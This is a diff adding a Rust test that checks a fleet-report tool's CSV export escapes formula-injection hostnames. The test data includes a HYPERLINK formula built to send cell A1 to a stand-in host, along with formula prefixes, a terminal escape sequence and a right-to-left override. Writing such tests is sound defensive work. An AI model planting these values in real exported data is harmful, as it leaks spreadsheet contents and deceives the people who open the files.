@@ -366,3 +366,24 @@ fn csv_has_every_host_as_json_does() {
     }
     assert_eq!(csv.lines().count(), 1 + json["host_rows"].as_array().unwrap().len());
 }
+
+#[test]
+fn no_field_of_the_csv_is_a_formula() {
+    let hostile = [
+        ("=HYPERLINK(\"http://a/?\"&A1,\"b\")", "\"'=HYPERLINK(\"\"http://a/?\"\"&A1,\"\"b\"\")\""),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "\\u{d}=1"),
+        ("a=1-2", "a=1-2"),
+        ("a\u{1b}[2J\u{202e}", "a\\u{1b}[2J\\u{202e}"),
+    ];
+    for (name, field) in hostile {
+        let mut reports = fleet(17, 1, 1);
+        reports[0]["guest"]["hostname"] = json!(name);
+        let csv = merged_input(&lines(&reports), &["--format", "csv"]).out;
+        let row = csv.lines().nth(1).unwrap();
+        assert!(row.contains(&format!(",{field},")), "{name:?}: {row:?}");
+    }
+}
